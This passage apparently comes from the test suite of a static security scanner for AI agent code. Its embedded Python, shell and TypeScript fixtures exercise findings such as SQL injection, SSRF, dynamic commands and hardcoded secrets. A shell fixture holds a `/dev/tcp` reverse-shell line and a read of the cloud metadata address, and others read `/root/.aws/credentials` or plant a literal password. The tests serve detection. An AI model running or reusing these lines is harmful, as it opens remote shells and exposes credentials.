        subprocess.run([os.path.join(home, ".cargo", "bin", "uv"), "venv"], check=True)

    def start(self, program: str, packages: list):
        subprocess.run([os.path.join(self.venv_path, program), *packages], check=True)
`;
    expect(await check('agent/verifier.py', src)).toEqual(['18 subprocess-dynamic-command low']);
  });

  it('`compile` whose result an `eval` or `exec` of the file runs is reported there, once; a compiled result that leaves is still reported', async () => {
    const src = `import contextlib
import io


class Interpreter:
    def run(self, code: str):
        buffer = io.StringIO()
        try:
            compiled = compile(code, "<string>", "eval")
        except SyntaxError:
            with contextlib.redirect_stdout(buffer):
                exec(code, {})
            return buffer.getvalue()
        return str(eval(compiled, {}))


def build(source: str, other: str):
    exec(compile(source, "<s>", "exec"))
    return compile(other, "<o>", "exec")
`;
    expect(await check('agent/interp.py', src)).toEqual(['12 code-eval high', '14 code-eval high', '18 code-eval high', '19 code-eval high']);
  });

  it('a file name cleaned to a class of letters and digits and a digest\'s hex cannot leave the directory; a class keeping `.` and `/` can', async () => {
    const src = `import base64
import hashlib
import json
import os
import re
import tempfile

from openai import OpenAI

client = OpenAI()


def save_image():
    completion = client.chat.completions.create(model="gpt-4o", messages=[])
    args = json.loads(completion.choices[0].message.tool_calls[0].function.arguments)
    digest = hashlib.md5(args["data"][:100].encode()).hexdigest()[:10]
    suffix = re.sub(r"[^a-zA-Z0-9]", "", args["format"])[:10]
    with open(os.path.join(tempfile.gettempdir(), f"image_{digest}.{suffix}"), "wb") as f:
        f.write(base64.b64decode(args["data"]))
    loose = re.sub(r"[^a-zA-Z0-9./]", "", args["format"])
    with open(os.path.join(tempfile.gettempdir(), loose), "wb") as f:
        f.write(b"x")
    ranged = re.sub(r"[^ -~]", "", args["format"])
    return open(os.path.join(tempfile.gettempdir(), ranged), "wb")
`;
    expect(await check('agent/images.py', src)).toEqual(['21 file-untrusted-path critical', '24 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, seventh round: a helper that splits a command line every caller starts with a constant program', () => {
  const helper = `import subprocess


def _execute_shell_command(command: str) -> subprocess.Popen:
    parts = command.split()
    return subprocess.Popen(parts, text=True)


def start_server(model: str, port: int):
    cmd = f"python -m inference.launch_server --model-path {model} --port {port}"
    return _execute_shell_command(cmd)
`;
  it('starts that program: not reported; a caller whose command line starts with a value, or a tool filling it, keeps the finding', async () => {
    expect(await check('agent/server.py', helper)).toEqual([]);
    const dynamic = helper + `

def start_any(launcher: str, model: str):
    return _execute_shell_command(f"{launcher} --model-path {model}")
`;
    expect(await check('agent/server.py', dynamic)).toEqual(['6 subprocess-dynamic-command medium']);
    const tool = helper + `

from langchain_core.tools import tool


@tool
def launch(command_line: str) -> str:
    """Launch a server."""
    return str(_execute_shell_command("python " + command_line))
`;
    expect((await check('agent/server.py', tool)).filter((f) => f.startsWith('6 '))).toEqual(['6 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, seventh round: a program looked up in a table of constants', () => {
  it('`TABLE[kind][platform].split()[0]` is one of the table\'s programs, whatever the key; a table holding a parameter is still reported', async () => {
    const src = `import os
import subprocess
from typing import ClassVar, Dict


class Runner:
    _COMMANDS: ClassVar[Dict[str, Dict[str, str]]] = {
        "python": {"posix": "python {file_name}", "nt": "python {file_name}"},
        "r": {"posix": "Rscript {file_name}", "nt": "Rscript.exe {file_name}"},
    }

    def run(self, code_type: str, file: str):
        platform_type = "posix" if os.name != "nt" else "nt"
        template = self._COMMANDS[code_type][platform_type]
        base_cmd = template.split()[0]
        return subprocess.Popen([base_cmd, file])

    def run_with(self, interpreter: str, code_type: str, file: str):
        table = {"python": interpreter, "r": "Rscript"}
        return subprocess.Popen([table[code_type], file])
`;
    expect(await check('agent/runner.py', src)).toEqual(['20 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, seventh round: a virtual environment\'s interpreter handed to a helper', () => {
  const src = (name: string) => `import asyncio
import os
import tempfile


class Verifier:
    def __init__(self):
        self.bin_dir = "Scripts" if os.name == "nt" else "bin"
        self.venv_path = tempfile.mkdtemp()

    async def verify(self, solution: str, interpreter: str):
        venv_python = os.path.join(self.venv_path, self.bin_dir, ${name})
        return await self._run_code_block(solution, venv_python)

    async def _run_code_block(self, code: str, venv_path: str):
        with tempfile.NamedTemporaryFile("w+", suffix=".py", delete=False) as tmp:
            tmp.write(code)
        proc = await asyncio.create_subprocess_exec(venv_path, tmp.name)
        return await proc.wait()
`;
  it('`os.path.join(venv, bin_dir, "python.exe" if nt else "python")` passed by every caller is that interpreter; a name from a parameter is still reported', async () => {
    expect(await check('agent/verifier.py', src('"python.exe" if os.name == "nt" else "python"'))).toEqual([]);
    expect(await check('agent/verifier.py', src('interpreter'))).toEqual(['18 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, seventh round: a program found on PATH, else at a fixed place, else not at all', () => {
  const found = `import os
import shutil
import subprocess


def ensure_uv():
    existing = shutil.which("uv")
    if existing is not None:
        return True, existing
    path = os.path.join(os.path.expanduser("~"), ".cargo", "bin", "uv")
    if os.path.exists(path):
        return True, path
    return False, None


def setup(env_path):
    ok, uv_path = ensure_uv()
    if ok and uv_path:
        subprocess.run([uv_path, "venv", env_path], check=True)
`;
  it('`which("uv")`, else `~/.cargo/bin/uv`, else `None` starts uv: not reported; a file name or a lookup that is not constant keeps the finding', async () => {
    expect(await check('agent/env.py', found)).toEqual([]);
    // a file name not known (the environment's)
    const named = found.replace('".cargo", "bin", "uv")', '".cargo", "bin", tool_name)').replace('def ensure_uv():', 'def ensure_uv(tool_name=os.environ.get("UV_NAME")):');
    expect(await check('agent/env.py', named)).toEqual(['19 subprocess-dynamic-command low']);
    // a parameter's constant default, which the call omits: that constant
    const defaulted = found.replace('".cargo", "bin", "uv")', '".cargo", "bin", tool_name)').replace('def ensure_uv():', 'def ensure_uv(tool_name="uv"):');
    expect(await check('agent/env.py', defaulted)).toEqual([]);
    // `or` of a lookup and a path: the same
    const either = `import os\nimport shutil\nimport subprocess\n\n\ndef version():\n    exe = shutil.which("git") or os.path.join("/usr/local/bin", "git")\n    return subprocess.run([exe, "--version"])\n`;
    expect(await check('agent/git.py', either)).toEqual([]);
    // a lookup of a name the caller chooses
    const chosen = either.replace('def version():', 'def version(name):').replace('shutil.which("git")', 'shutil.which(name)');
    expect(await check('agent/git.py', chosen)).toEqual(['8 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, eighth round: programs found on PATH, in a known directory, or with a flag added on one platform', () => {
  const install = `import shutil
import subprocess
from pathlib import Path


def _harness():
    exe = shutil.which("browser-harness")
    if exe:
        return exe
    local_bin = Path.home() / ".local" / "bin"
    for name in ("browser-harness", "browser-harness.exe"):
        path = local_bin / name
        if path.exists():
            return str(path)
    return None


def install_tool():
    uv = shutil.which("uv")
    if not uv:
        raise RuntimeError("install uv first")
    subprocess.run([uv, "tool", "install", "browser-use"])


def skill_text():
    exe = _harness()
    if exe is None:
        return ""
    return subprocess.run([exe, "skill"], capture_output=True).stdout
`;
  it('two lookups of one file, each of its own name; a lookup else a file in ~/.local/bin: the programs they name (Python)', async () => {
    // `uv tool install` is a wrapper with constant arguments: low, as the same constant argv is
    expect(await check('agent/install.py', install)).toEqual(['22 subprocess-shell low']);
    // a name the caller chooses keeps the finding
    const chosen = install.replace('def install_tool():', 'def install_tool(tool):').replace('shutil.which("uv")', 'shutil.which(tool)');
    expect(await check('agent/install.py', chosen)).toEqual(['22 subprocess-dynamic-command medium']);
  });

  it('a helper every caller hands a path to one program, found in one of several directories or on PATH (Python)', async () => {
    const src = `import os
import shutil
import subprocess
from pathlib import Path


def _supports_server(binary: Path) -> bool:
    result = subprocess.run([str(binary), "--help"], capture_output=True, check=False)
    return result.returncode == 0


def find_terminal() -> str:
    home = Path(os.environ.get("TERM_HOME", "~/.terminal")).expanduser()
    install_dir = Path(os.environ.get("TERM_INSTALL_DIR", "~/.local/bin")).expanduser()
    candidates = [home / "packages" / "current" / "bin" / "terminal", install_dir / "terminal"]
    for candidate in candidates:
        if candidate.exists() and _supports_server(candidate):
            return str(candidate)
    found = shutil.which("terminal")
    if found and _supports_server(Path(found)):
        return found
    raise RuntimeError("terminal not found")
`;
    expect(await check('agent/terminal.py', src)).toEqual([]);
    // one caller hands a path whose file name is not known: reported
    const other = src.replace('raise RuntimeError("terminal not found")', 'return str(_supports_server(Path(os.environ["OTHER_BINARY"])))');
    expect(await check('agent/terminal.py', other)).toEqual(['8 subprocess-dynamic-command medium']);
  });

  it('an argv list given a constant flag on one platform and unpacked into the call starts the same program (Python)', async () => {
    const src = `import asyncio
import platform
from agents import function_tool


async def install_browser():
    cmd = ["uvx", "playwright", "install", "chromium"]
    if platform.system() == "Linux":
        cmd.append("--with-deps")
    return await asyncio.create_subprocess_exec(*cmd)


@function_tool
async def install_package(package: str):
    cmd = ["uvx", "playwright", "install"]
    if package:
        cmd.append(package)
    return await asyncio.create_subprocess_exec(*cmd)
`;
    expect(await check('agent/browser.py', src)).toEqual(['10 subprocess-shell low', '18 subprocess-dynamic-command medium']);
  });

  it('`path.join(root, "node_modules", ".bin", "tsx")` starts tsx; a file name a caller passes is still reported (TypeScript)', async () => {
    const src = `import { spawn } from 'node:child_process';
import { join, resolve } from 'node:path';

const ROOT = resolve(import.meta.dirname, '..');
const TSX = join(ROOT, 'node_modules', '.bin', 'tsx');

export function runOne(file: string, runner: string) {
  const child = spawn(TSX, [file], { cwd: ROOT });
  const other = spawn(join(ROOT, 'bin', runner), [file]);
  return [child, other];
}
`;
    expect(await check('scripts/run-examples.ts', src)).toEqual(['9 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, eighth round: a store dropping, migrating and refilling its own tables', () => {
  const py = `import sqlite3


class History:
    def __init__(self, path: str):
        self.connection = sqlite3.connect(path)
        self.connection.execute("CREATE TABLE IF NOT EXISTS history (id TEXT PRIMARY KEY, body TEXT)")

    def _migrate_history_table(self):
        self.connection.execute("DROP TABLE IF EXISTS history_old")
        self.connection.execute("ALTER TABLE history RENAME TO history_old")
        self.connection.execute("INSERT INTO history (id, body) SELECT id, body FROM history_old")
        self.connection.execute("DROP TABLE history_old")

    def reset(self):
        self.connection.execute("DROP TABLE IF EXISTS history")

    def reset_users(self):
        self.connection.execute("DROP TABLE IF EXISTS users")

    def set_owner(self, owner):
        self.connection.execute("DELETE FROM owners")
        self.connection.execute("INSERT INTO owners (name) VALUES (?)", (owner,))

    def log_owner(self, owner):
        self.connection.execute("DELETE FROM owners")
        self.connection.execute("INSERT INTO audit (name) VALUES (?)", (owner,))

    def summary(self):
        self.connection.execute("DROP TABLE history")
`;
  it('a migration function, `reset()` of a table the file creates and DELETE-then-INSERT of one table are low; other tables and other functions keep their grade (Python)', async () => {
    expect((await check('memory/storage.py', py)).filter((f) => f.includes('sql-destructive'))).toEqual([
      '10 sql-destructive low',
      '13 sql-destructive low',
      '16 sql-destructive low',
      '19 sql-destructive high',
      '22 sql-destructive low',
      '26 sql-destructive high',
      '30 sql-destructive high',
    ]);
  });

  it('the same in TypeScript', async () => {
    const ts = `import Database from 'better-sqlite3';

export class VectorStore {
  private db = new Database('vectors.db');
  constructor() {
    this.db.exec('CREATE TABLE IF NOT EXISTS vectors (id TEXT PRIMARY KEY, vector BLOB)');
  }
  async deleteCol(): Promise<void> {
    this.db.exec('DROP TABLE IF EXISTS vectors');
  }
  async dropUsers(): Promise<void> {
    this.db.exec('DROP TABLE IF EXISTS users');
  }
  async setUserId(userId: string): Promise<void> {
    this.db.prepare('DELETE FROM memory_migrations').run();
    this.db.prepare('INSERT INTO memory_migrations (user_id) VALUES (?)').run(userId);
  }
  async runMigrations(): Promise<void> {
    this.db.exec('DROP TABLE IF EXISTS vectors_old');
  }
}
`;
    expect((await check('src/vector_stores/memory.ts', ts)).filter((f) => f.includes('sql-destructive'))).toEqual([
      '9 sql-destructive low',
      '12 sql-destructive high',
      '15 sql-destructive low',
      '19 sql-destructive low',
    ]);
  });
});

describe('agent code not used for tuning, eighth round: identifiers checked against a pattern, filters built by a function calling itself', () => {
  it('a table name returned by a validator that raises unless it matches an identifier pattern is not injectable; the unchecked one is (Python)', async () => {
    const src = `import re
import sqlite3

_SAFE_IDENTIFIER_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]{0,127}$")
_LOOSE_RE = re.compile(r"^[A-Za-z_ ;'-]+$")


def _validate_identifier(name: str) -> str:
    if not _SAFE_IDENTIFIER_RE.match(name):
        raise ValueError(name)
    return name


def _loosely_checked(name: str) -> str:
    if not _LOOSE_RE.match(name):
        raise ValueError(name)
    return name


class Store:
    def __init__(self, path: str, collection_name: str):
        self.conn = sqlite3.connect(path)
        self.collection_name = _validate_identifier(collection_name)

    def create_col(self, name=None):
        table = _validate_identifier(name) if name else self.collection_name
        self.conn.execute(f"CREATE TABLE IF NOT EXISTS \`{table}\` (id VARCHAR(255) PRIMARY KEY)")
        self.conn.execute(f"DELETE FROM \`{self.collection_name}\` WHERE id = %s", (name,))
        self.conn.execute(f"CREATE INDEX idx ON \`{_loosely_checked(name)}\` (id)")
        self.conn.execute(f"CREATE INDEX idx2 ON \`{name}\` (id)")
`;
    expect(await check('vector_stores/mysql.py', src)).toEqual(['29 sql-injection low', '30 sql-injection low']);
  });

  it('`re.fullmatch`, `re.match(...) is None` with `\\A…\\Z`, and a positive branch sanitize; `re.search` of an unanchored pattern does not (Python, TypeScript)', async () => {
    const py = `import re
import sqlite3

conn = sqlite3.connect("x.db")


def full(name):
    if not re.fullmatch(r"[a-z0-9_]+", name):
        raise ValueError(name)
    conn.execute(f"SELECT * FROM {name}")


def matched_or_none(name):
    if re.match(r"\\A[\\w-]+\\Z", name) is None:
        raise ValueError(name)
    conn.execute(f"SELECT * FROM {name}")


def anywhere(name):
    if not re.search(r"[a-z0-9_]+", name):
        raise ValueError(name)
    conn.execute(f"SELECT * FROM {name}")


def positive(name):
    if re.match(r"^[a-z]+$", name):
        conn.execute(f"SELECT * FROM {name}")
`;
    expect(await check('store/tables.py', py)).toEqual(['22 sql-injection low']);
    const ts = `import Database from 'better-sqlite3';
const db = new Database('x.db');
export function anchored(name: string) {
  if (!/^[a-z_]+$/.test(name)) throw new Error('bad');
  return db.prepare(\`SELECT * FROM \${name}\`).all();
}
export function anywhere(name: string) {
  if (!/[a-z_]+/.test(name)) throw new Error('bad');
  return db.prepare(\`SELECT * FROM \${name}\`).all();
}
`;
    expect(await check('src/tables.ts', ts)).toEqual(['9 sql-injection low']);
  });

  it('filter keys checked by a pattern, values bound, nested groups built by recursion, the table quoted by the driver: not injectable; an unchecked key is (TypeScript)', async () => {
    const src = `import pkg from 'pg';
const { Client, escapeIdentifier } = pkg;
const SAFE_IDENTIFIER_RE = /^[a-zA-Z_][a-zA-Z0-9_]{0,127}$/;

function escapeFilterKey(key: string): string {
  if (!SAFE_IDENTIFIER_RE.test(key)) {
    throw new Error('invalid key');
  }
  return key;
}

export function buildFilterConditions(filters: Record<string, any> | undefined, startIndex: number) {
  const conditions: string[] = [];
  const values: any[] = [];
  let paramIndex = startIndex;
  if (!filters) {
    return { conditions, values, paramIndex };
  }
  for (const [key, value] of Object.entries(filters)) {
    if (key === '$or') {
      const orGroups: string[] = [];
      for (const orFilter of value as Record<string, any>[]) {
        const sub = buildFilterConditions(orFilter, paramIndex);
        orGroups.push('(' + sub.conditions.join(' AND ') + ')');
        values.push(...sub.values);
        paramIndex = sub.paramIndex;
      }
      conditions.push('(' + orGroups.join(' OR ') + ')');
      continue;
    }
    conditions.push(\`payload->>'\${escapeFilterKey(key)}' = $\${paramIndex}\`);
    values.push(String(value));
    paramIndex++;
  }
  return { conditions, values, paramIndex };
}

export function looseConditions(filters: Record<string, any>) {
  return Object.keys(filters).map((key) => \`payload->>'\${key}' IS NOT NULL\`);
}

export class PGVector {
  private client = new Client();
  constructor(private collectionName: string) {}
  private col(): string {
    return escapeIdentifier(this.collectionName);
  }
  async list(filters: Record<string, any>, topK: number) {
    const { conditions, values, paramIndex } = buildFilterConditions(filters, 1);
    const filterClause = conditions.length > 0 ? 'WHERE ' + conditions.join(' AND ') : '';
    const listed = await this.client.query(\`SELECT id, payload FROM \${this.col()} \${filterClause} LIMIT $\${paramIndex}\`, [...values, topK]);
    const loose = await this.client.query(\`SELECT id FROM \${this.col()} WHERE \${looseConditions(filters).join(' AND ')}\`);
    return [listed, loose];
  }
}
`;
    expect(await check('src/vector_stores/pgvector.ts', src)).toEqual(['52 sql-injection medium']);
  });
});

describe('agent code not used for tuning, eighth round: names in /tmp finished with the environment, code read as text', () => {
  it('a /tmp name made of constants and $USER is scratch space (low); the same under /etc keeps its grade (Python, shell)', async () => {
    const py = `import json
import os

STATS_FILE = f"/tmp/app_session_stats_{os.environ.get('USER', 'default')}.json"


def save(stats):
    with open(STATS_FILE, "w") as f:
        json.dump(stats, f)
    with open(f"/etc/app_{os.environ.get('USER', 'default')}.json", "w") as f:
        json.dump(stats, f)
`;
    expect(await check('plugin/hooks/stats.py', py)).toEqual(['8 file-outside-sandbox low', '10 file-outside-sandbox high']);
    const sh = `#!/bin/bash\nrm -f "/tmp/app_msg_count_\${USER:-default}"\nprintf '%s' "$ID" > "/tmp/app_session_id_\${USER:-default}"\nrm -f "/etc/app_\${USER:-default}"\n`;
    expect(await check('plugin/hooks/start.sh', sh)).toEqual(['2 file-outside-sandbox low', '3 file-outside-sandbox low', '4 file-outside-sandbox high']);
  });

  it('a call in a script embedded in a shell heredoc is not a credential; a literal password there is', async () => {
    const sh = `#!/bin/bash\nexec python3 - "$@" <<'PY'\ndef export(args):\n    api_key = qdrant_api_key(args)\n    token = os.getenv("QDRANT_TOKEN")\n    password = "Zk4mQ8wLp2Rv"\nPY\n`;
    expect(await check('scripts/migrate.sh', sh)).toEqual(['6 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, eighth round: a variable a path never binds', () => {
  it('a path that never binds a name fails where it reads it: the merge keeps the other paths\' value (Python)', async () => {
    const src = `import os
import subprocess


class Runner:
    _CMD: dict = {"python": {"posix": "python {file_name}", "nt": "python {file_name}"}, "bash": {"posix": "bash {file_name}", "nt": "bash.exe {file_name}"}}

    def run_file(self, file, code_type):
        try:
            if code_type == "python":
                cmd = ["python", str(file)]
        except ValueError:
            platform_type = "posix" if os.name != "nt" else "nt"
            base_cmd = self._CMD[code_type][platform_type].split()[0]
            cmd = [base_cmd, str(file)]
        return subprocess.Popen(cmd, shell=False)
`;
    expect(await check('interpreters/subprocess_interpreter.py', src)).toEqual([]);
  });

  it('an import guarded by try/except ImportError still names the library: a tool running model-written SQL through it is reported', async () => {
    const src = `from crewai.tools import BaseTool

try:
    from sqlalchemy import create_engine, text
    from sqlalchemy.orm import sessionmaker

    SQLALCHEMY_AVAILABLE = True
except ImportError:
    SQLALCHEMY_AVAILABLE = False


class NL2SQLTool(BaseTool):
    name: str = "NL2SQLTool"
    description: str = "Converts natural language to SQL queries and executes them."
    db_uri: str = "sqlite:///x.db"

    def _run(self, sql_query: str):
        return self.execute_sql(sql_query)

    def execute_sql(self, sql_query: str):
        engine = create_engine(self.db_uri)
        session = sessionmaker(bind=engine)()
        return session.execute(text(sql_query)).fetchall()
`;
    expect((await check('tools/nl2sql/nl2sql_tool.py', src)).filter((f) => f.includes('sql-injection'))).toEqual(['23 sql-injection critical']);
  });
});

describe('agent code not used for tuning, after the eighth round: fixed locations outside the project with no sandbox configured', () => {
  it("a fixed location of the program's own is low (since round 54 also a folder of its own it deletes); credentials, login files and system configuration keep their grade; a configured sandbox keeps every grade (Python)", async () => {
    // the shape of SWE-agent's tool scripts, which keep their state in the container's /root
    const src = `import json
import os
import shutil
from pathlib import Path

state_path = Path("/root/state.json")
state = json.loads(state_path.read_text())
state_path.write_text(json.dumps(state))
os.makedirs("/var/log/agent", exist_ok=True)
creds = Path("/root/.aws/credentials").read_text()
open("/root/.bashrc", "a").write("export X=1")
open("/etc/agent.conf", "w").write("x")
shutil.rmtree("/opt/agent/cache")
open(f"/root/{os.environ['NAME']}", "w").write("x")
`;
    expect(await check('tools/state/bin/state.py', src)).toEqual([
      '7 file-outside-sandbox low',
      '8 file-outside-sandbox low',
      '9 file-outside-sandbox low',
      '10 file-outside-sandbox medium',
      '11 file-outside-sandbox high',
      '12 file-outside-sandbox high',
      '13 file-outside-sandbox low',
      '14 file-outside-sandbox high',
    ]);
    const config = resolveConfigObject({ sandbox: { roots: ['./workspace'] } }, '/p', '/p/agentos.config.yaml');
    expect((await check('tools/state/bin/state.py', src, config)).filter((f) => f.endsWith(' low'))).toEqual([]);
  });
});

describe('agent code not used for tuning, tenth round: a command line the object was configured with', () => {
  it("a whole shell line from the constructor's settings is low; the same class built by a tool with its input keeps the finding (Python)", async () => {
    // the shape of aider's notification command: a setting, or a default the class picks itself
    const configured = `import subprocess

class InputOutput:
    def __init__(self, notifications_command=None):
        if notifications_command is None:
            self.notifications_command = self.default_command()
        else:
            self.notifications_command = notifications_command

    def default_command(self):
        return None

    def ring_bell(self):
        if self.notifications_command:
            subprocess.run(self.notifications_command, shell=True, capture_output=True)

def run(cmd):
    subprocess.run(cmd, shell=True)
`;
    expect(await check('app/io.py', configured)).toEqual(['15 subprocess-shell low', '18 subprocess-shell high']);
    const reached = `${configured}
from langchain_core.tools import tool

@tool
def notify(command: str) -> str:
    """Notify with a command."""
    InputOutput(command).ring_bell()
    return "ok"
`;
    expect(await check('app/io.py', reached)).toContain('15 subprocess-shell critical');
  });
});

describe('agent code not used for tuning, tenth round: a program checked against a written-out list, a loader derived from a safe one', () => {
  it('`if exe in ["node", "npm"]` before starting it: one of those programs, with no untrusted origin in sight too; unchecked it is reported (Python)', async () => {
    // the shape of mcp-agent's `_check_command`
    const src = `import shutil
import subprocess

def check_command(cmd: str):
    exe = cmd.split()[0]
    if not shutil.which(exe):
        return False
    if exe in ["node", "npm", "npx", "python3", "uv"]:
        subprocess.run([exe, "--version"], capture_output=True, timeout=2)
    subprocess.run([exe, "--help"], capture_output=True, timeout=2)
`;
    expect(await check('cli/commands/build.py', src)).toEqual(['10 subprocess-dynamic-command low']);
  });

  it('`["git", "-C", repo] + args` starts git; `[exe] + args` starts what a parameter names (Python)', async () => {
    // the shape of agnoctl's `_run_compose`
    const src = `import subprocess
from typing import List

def run_git(repo: str, args: List[str]):
    return subprocess.run(["git", "-C", repo] + args, check=True)

def run_any(exe: str, args: List[str]):
    return subprocess.run([exe] + args, check=True)
`;
    expect(await check('cli/lifecycle.py', src)).toEqual(['8 subprocess-dynamic-command low']);
  });

  it('`["node", "npm"].includes(exe)` is the same check; a computed array is not (TypeScript)', async () => {
    const src = `import { spawnSync } from 'node:child_process';
export function version(exe: string, more: string[]) {
  if (['node', 'npm', 'npx'].includes(exe)) spawnSync(exe, ['--version']);
  if ([...more, 'node'].includes(exe)) spawnSync(exe, ['--version']);
}
`;
    expect(await check('src/cli/version.ts', src)).toEqual(['4 subprocess-dynamic-command low']);
  });

  it("`yaml.load` with the file's own loader class derived from SafeLoader is safe; one derived from FullLoader is not (Python)", async () => {
    // the shape of mcp-agent's secret tags
    const src = `import yaml
from yaml import SafeLoader

class SecretYamlLoader(SafeLoader):
    pass

class Tagged(SecretYamlLoader):
    pass

class Wide(yaml.FullLoader):
    pass

def load_secrets(text):
    return yaml.load(text, Loader=SecretYamlLoader), yaml.load(text, Loader=Tagged), yaml.load(text, Loader=Wide)
`;
    expect(await check('cli/secrets/yaml_tags.py', src)).toEqual(['14 code-unsafe-deserialization high']);
  });
});

describe('agent code not used for tuning, eleventh round: bash network redirections, PEM headers in messages', () => {
  it('`> /dev/tcp/$HOST/$PORT` is a connection judged by its host, not a file outside the sandbox (shell)', async () => {
    // the shape of wait-for-it.sh, shipped at the top of many agent repositories
    const src = `#!/bin/bash
HOST=$1
PORT=$2
(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1
cat < /dev/tcp/169.254.169.254/80
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
echo ok >> ~/.bashrc
`;
    expect(await check('wait-for-it.sh', src)).toEqual(['5 egress-not-allowlisted high', '6 egress-not-allowlisted medium', '7 file-outside-sandbox high']);
  });

  it('a PEM header named in an error message is not a key; a header starting a key is (Python)', async () => {
    // the shape of agno's GitHub App settings check
    const src = `def check(private_key):
    if not private_key.strip().startswith("-----BEGIN"):
        raise ValueError(
            "private_key must be a PEM-formatted RSA private key "
            "(starting with '-----BEGIN RSA PRIVATE KEY-----' or '-----BEGIN PRIVATE KEY-----')"
        )

KEY = "-----BEGIN RSA PRIVATE KEY-----\\n"
`;
    expect(await check('knowledge/github.py', src)).toEqual(['8 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, eleventh round: a relative path out of a package folder', () => {
  it("`../next/.env` in `cli/src/env.js` stays in the repository from the file's folder: low; more `..` than folders keeps the grade; a configured sandbox keeps it too (JavaScript)", async () => {
    // the shape of AgentGPT's set-up wizard, writing the web app's .env next to its own package
    const src = `import fs from 'node:fs';
export const save = (text) => {
  fs.writeFileSync('../next/.env', text);
  fs.writeFileSync('../../../.env', text);
};
`;
    expect(await check('cli/src/envGenerator.js', src)).toEqual(['3 file-outside-sandbox low', '4 file-outside-sandbox high']);
    expect(await check('envGenerator.js', src)).toEqual(['3 file-outside-sandbox high', '4 file-outside-sandbox high']);
    const config = resolveConfigObject({ sandbox: { roots: ['.'] } }, '/p', '/p/agentos.config.yaml');
    expect(await check('cli/src/envGenerator.js', src, config)).toEqual(['3 file-outside-sandbox high', '4 file-outside-sandbox high']);
  });
});

describe('agent code not used for tuning, eleventh round: a request helper every tool calls with a path', () => {
  it("a base URL, then a path every call of the helper passes, extended with a query on one path only, through `urlopen(Request(url))`: not SSRF; a helper handed the tool's text is (Python)", async () => {
    // the shapes of agno's Unsplash, Antigravity and SearxNG toolkits
    const src = `import httpx
from urllib.parse import quote, urlencode
from urllib.request import Request, urlopen
from agno.agent import Agent

class Photos:
    def __init__(self, base_url: str = "https://api.example.com/v1", host: str = "https://searx.example.org"):
        self.fixed = "https://api.unsplash.com"
        self.base_url = base_url
        self.host = host

    def _make_request(self, endpoint, params=None):
        url = f"{self.fixed}{endpoint}"
        if params:
            url = f"{url}?{urlencode(params)}"
        return urlopen(Request(url, headers={"Accept": "application/json"}))

    def _get(self, path):
        return httpx.get(f"{self.base_url}{path}").json()

    def _raw(self, path):
        return httpx.get(f"{self.base_url}{path}").json()

    def search(self, query: str, per_page: int = 5, engines: str = ""):
        url = f"{self.host}/search?format=json&q={quote(query)}"
        if engines:
            url += f"&engines={engines}"
        httpx.get(url)
        return self._make_request("/search/photos", {"query": query, "per_page": per_page})

    def photo(self, photo_id: str):
        self._get(f"/operations/{photo_id}")
        return self._make_request(f"/photos/{photo_id}")

    def anything(self, suffix: str):
        return self._raw(suffix)

p = Photos()
agent = Agent(tools=[p.search, p.photo, p.anything])
`;
    expect(await check('tools/photos.py', src)).toEqual(['22 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, eleventh round: a table name escaped by doubling its quotes', () => {
  it('`"{name.replace(\'"\', \'""\')}"` is a quoted identifier; the same name unquoted, or another part, is still injectable (Python)', async () => {
    // the shape of agno's CSV toolkit
    const src = `import duckdb
from agno.tools import Toolkit

class CsvTools(Toolkit):
    def __init__(self):
        super().__init__(name="csv", tools=[self.load, self.bare, self.filtered])

    def load(self, csv_name: str, path: str):
        table_name = csv_name.replace('"', '""')
        duckdb.connect().execute(f'CREATE TABLE "{table_name}" AS SELECT * FROM read_csv(?)', [path])

    def bare(self, csv_name: str):
        table_name = csv_name.replace('"', '""')
        duckdb.connect().execute(f'SELECT * FROM {table_name}')

    def filtered(self, csv_name: str, where: str):
        table_name = csv_name.replace('"', '""')
        duckdb.connect().execute(f'SELECT * FROM "{table_name}" WHERE {where}')
`;
    expect(await check('tools/csv_toolkit.py', src)).toEqual(['14 sql-injection critical', '18 sql-injection critical']);
  });
});

describe('agent code not used for tuning, twelfth round: a program looked for in a list of install locations', () => {
  it('a constant path beside paths under the home directory, all ending in the same file name, starts that program; a list of other names is still reported (Python)', async () => {
    // the shape of fastmcp's `find_claude_command`
    const src = `import subprocess
from pathlib import Path

def find_claude():
    for path in [Path.home() / ".claude" / "local" / "claude", Path("/usr/local/bin/claude"), Path.home() / ".npm-global" / "bin" / "claude"]:
        if path.exists():
            subprocess.run([str(path), "--version"], check=True)
            return str(path)

def find_any():
    for path in [Path("/usr/local/bin/claude"), Path.home() / "bin" / "gemini"]:
        subprocess.run([str(path), "--version"], check=True)

def find_given(extra):
    for path in [Path("/usr/local/bin/claude"), Path(extra)]:
        subprocess.run([str(path), "--version"], check=True)
`;
    // (since the fiftieth round a constant path is one more way of naming a program: the two-name list is one of two
    // fixed programs, as `["claude", "gemini"]` is; a place a parameter names is still reported)
    expect(await check('cli/install/claude_code.py', src)).toEqual(['16 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, twelfth round: a program picked from a list in a helper that returns it', () => {
  it('`for cmd in ["npx.cmd", "npx.exe", "npx"]: ... return cmd`, else `None`, else `"npx"`: one of those programs; a name from a parameter is still reported (Python)', async () => {
    // the shape of fastmcp's `_get_npx_command`
    const src = `import subprocess
import sys

def _get_npx_command():
    if sys.platform == "win32":
        for cmd in ["npx.exe", "npx"]:
            if subprocess.run([cmd, "--version"]).returncode == 0:
                return cmd
        return None
    return "npx"

def dev(tool):
    npx_cmd = _get_npx_command()
    subprocess.run([npx_cmd, "@modelcontextprotocol/inspector"], check=True)
    subprocess.run([tool or npx_cmd, "--version"], check=True)
`;
    expect(await check('cli/cli.py', src)).toEqual(['15 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, thirteenth round', () => {
  it('a fixed API URL extended with the request\'s query on one path only is judged by its host; a host from the request still is (Python)', async () => {
    // the shape of letta's Anthropic proxy route
